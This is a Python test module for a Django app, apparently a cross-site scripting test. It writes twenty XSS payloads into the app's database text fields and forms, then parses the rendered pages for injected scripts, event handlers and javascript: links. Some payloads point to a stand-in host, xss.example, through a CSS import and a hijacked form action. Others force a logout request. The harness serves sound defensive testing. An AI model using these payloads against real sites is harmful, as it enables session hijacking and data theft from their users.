"""Twenty ways to get a script onto a page, put wherever words of others are kept or asked for."""

import re
from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from itertools import count
from typing import Any

import pgtrigger
from django.apps import apps
from django.db import DataError, IntegrityError, connection, models, transaction
from django.test import Client

# Each would call __ran, or load, follow or send what it should not.
PAYLOADS = (
    "<script>__ran(1)</script>",
    '"><script>__ran(2)</script>',
    "'><img src=x onerror=__ran(3)>",
    "<svg/onload=__ran(4)>",
    '" onfocus="__ran(5)" autofocus x="',
    "' onfocus='__ran(6)' autofocus x='",
    "javascript:__ran(7)",
    "JaVa\tScRiPt&#58;__ran(8)",
    "</title><script>__ran(9)</script>",
    "</textarea><img src onerror=__ran(10)>",
    "</script><svg onload=__ran(11)>",
    "<iframe srcdoc='<script>parent.__ran(12)</script>'>",
    "<details open ontoggle=__ran(13)>",
    '<a href="javascript:__ran(14)">x</a>',
    "{{ 33333333|add:66666666 }}${__ran(15)}",
    "<math><a xlink:href=javascript:__ran(16)>",
    "<style>@import'//xss.example'</style>",
    "&lt;img src=x onerror=__ran(18)&gt;",
    '<i hx-get="/logout/?xss" hx-trigger="load">',
    "<form action=//xss.example><button>",
)
# With what no key or slug has: random keys spell shorter marks, and slugs keep the letters of them.
MARK = re.compile(r"__ran\(|xss\.example|\?xss", re.IGNORECASE)
OURS = {"accounts", "odds", "models_registry", "risk", "betting"}
# Keys by which code finds things, hashes, and addresses that code alone writes.
NOT_WORDS = re.compile(
    r"\.(key|\w*_key|\w*_hash|hash\w*|digest|fingerprint|checksum|secret|password\w*|prefix|slug"
    r"|time_zone|place|chain|commitment|salt|path|currency|page|query|content|artifact|algorithm"
    r"|\w*address|username|email|recipe|id|venue|dates|season|row_key)$"
)
ENOUGH = 700


def packed(longest: int | None) -> list[str]:
    """Return all twenty, in as few texts as are short enough; those too long alone are cut."""
    room = min(longest or ENOUGH, ENOUGH)
    texts = [""]
    for payload in PAYLOADS:
        if len(texts[-1]) + len(payload) + 1 > room and texts[-1]:
            texts.append("")
        texts[-1] = f"{texts[-1]} {payload}".strip()[:room]
    return texts


def a_payload() -> Callable[[int], str]:
    """Return what makes words of how long they may be: each time others of the twenty."""
    turn = count()
    return lambda longest: (texts := packed(longest))[next(turn) % len(texts)]


def stuff(shift: int = 0) -> set[str]:
    """Write payloads into every column of words, in every row; return the columns' names.

    Rows of one column have different ones; another `shift` gives each row its next. Triggers that
    keep records as they are look away, constraints do not.
    """
    stuffed = set()
    with pgtrigger.ignore():
        for model in apps.get_models():
            if model._meta.app_label not in OURS or model._meta.proxy:
                continue
            for column in model._meta.concrete_fields:
                name = f"{model._meta.label}.{column.name}"
                if isinstance(column, models.JSONField) and _write_inside(model, column):
                    stuffed.add(name)
                if _holds_words(column) and not NOT_WORDS.search(name):
                    texts = packed(column.max_length)
                    if _write(model, column, texts, shift):
                        stuffed.add(name)
    return stuffed


def _holds_words(column: "models.Field[Any, Any]") -> bool:
    is_text = isinstance(column, models.CharField | models.TextField)
    return is_text and not isinstance(column, models.SlugField) and not column.choices


def _write(
    model: type[models.Model], column: "models.Field[Any, Any]", texts: list[str], shift: int
) -> bool:
    name = connection.ops.quote_name(column.column)
    table = connection.ops.quote_name(model._meta.db_table)
    key = connection.ops.quote_name(str(model._meta.pk.column))
    # Empty stays empty: pages show another branch then. The key keeps apart what must not be equal.
    sql = (
        f"UPDATE {table} SET {name} = left("  # noqa: S608
        f"(%s::text[])[1 + (abs(hashtext({key}::text)) + %s) %% %s], %s - length({key}::text) - 1)"
        f" || ' ' || {key} WHERE {name} <> ''"
    )
    try:
        with transaction.atomic(), connection.cursor() as cursor:
            cursor.execute(sql, [texts, shift, len(texts), column.max_length or 10_000])
            return cursor.rowcount > 0
    except (IntegrityError, DataError):
        # The database itself refuses such words there, or the same ones twice.
        return False


def _write_inside(model: type[models.Model], column: "models.Field[Any, Any]") -> bool:
    """Write payloads behind every sentence inside a column of JSON."""
    found = False
    for key, value in model._base_manager.values_list("pk", column.name):
        changed = _with_payloads(value)
        if changed != value:
            found = True
            model._base_manager.filter(pk=key).update(**{column.name: changed})
    return found


def _with_payloads(value: Any) -> Any:
    if isinstance(value, dict):
        return {name: _with_payloads(each) for name, each in value.items()}
    if isinstance(value, list):
        return [_with_payloads(each) for each in value]
    # What is one word is a key, a number or a moment.
    return f"{value} {' '.join(PAYLOADS)}" if isinstance(value, str) and " " in value else value


class Faults(HTMLParser):
    """Finds what a page of ours never has, and what a payload would have made of it."""

    OURS = {"script", "link", "meta", "title", "html", "head", "body"}
    NEVER = {"iframe", "object", "embed", "base", "math", "style", "frame", "applet", "i"}

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        has = {name: value or "" for name, value in attrs}
        wrong = (
            tag in self.NEVER
            or (tag == "script" and "src" not in has)
            or any(name.startswith(("on", "hx-on")) or MARK.search(name) for name in has)
            or any(self.is_script(has.get(name, "")) for name in ("href", "src", "action"))
            or any(name in has for name in ("style", "formaction", "srcdoc", "xlink:href"))
            or any(MARK.search(has.get(name, "")) for name in ("action", "id", "class"))
        )
        if wrong:
            self.found.append(f"<{tag} {has}>"[:200])

    def is_script(self, address: str) -> bool:
        """Return whether following an address would run it."""
        bare = re.sub(r"[\x00-\x20]", "", address).lower()
        return bare.startswith(("javascript:", "vbscript:", "data:text", "//"))

    def handle_data(self, data: str) -> None:
        # What a template would have worked out.
        if "99999999" in data:
            self.found.append(data.strip()[:200])


def faults(page: str) -> list[str]:
    parser = Faults()
    parser.feed(page)
    parser.close()
    return parser.found


class _Forms(HTMLParser):
    """Reads a page's forms as a browser would send them, words replaced by payloads."""

    def __init__(self) -> None:
        super().__init__()
        self.forms: list[tuple[str, str, dict[str, str]]] = []
        self.words: set[str] = set()
        self.select = ""
        self.open: dict[str, str] | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        has = {name: value or "" for name, value in attrs}
        if tag == "form":
            self.open = {}
            self.words = set()
            self.forms.append((has.get("method", "get").lower(), has.get("action", ""), self.open))
        name = has.get("name", "")
        if self.open is None:
            return
        if tag == "textarea" or (tag == "input" and has.get("type", "text") in {"text", "search"}):
            plain = has.get("inputmode") in {"decimal", "numeric"}
            self.open[name] = has.get("value") or "1" if plain else f"\0{has.get('maxlength', '')}"
        elif tag == "input" and has.get("type") not in {"checkbox", "radio", "file", "submit"}:
            self.open[name] = has.get("value", "")
        elif tag == "button" and name:
            self.open.setdefault(name, has.get("value", ""))
        elif tag == "select":
            self.select = name
            self.open[name] = ""
        elif tag == "option" and self.select and ("selected" in has or not self.open[self.select]):
            self.open[self.select] = has.get("value", "")

    def handle_endtag(self, tag: str) -> None:
        if tag == "form":
            self.open = None
        elif tag == "select":
            self.select = ""


def sent(client: Client, address: str, page: str, done: set[str]) -> Iterator[tuple[str, str]]:
    """Send every form of a page that asks for words, with as many of the twenty as each takes.

    What was answered is yielded by what was sent; forms that are `done` are not sent again.
    """
    parser = _Forms()
    parser.feed(page)
    for method, action, fields in parser.forms:
        target = action or address
        asked = [name for name, value in fields.items() if value.startswith("\0")]
        known = re.sub(r"\d+", "N", target.partition("?")[0]) + ",".join(sorted(asked))
        if not asked or known in done:
            continue
        done.add(known)
        texts = {name: packed(int(fields[name][1:] or ENOUGH)) for name in asked}
        filled = fields | {name: each[len(done) % len(each)] for name, each in texts.items()}
        answer = (client.get if method == "get" else client.post)(target, filled)
        yield f"{method} {target}", answer.content.decode(errors="replace")
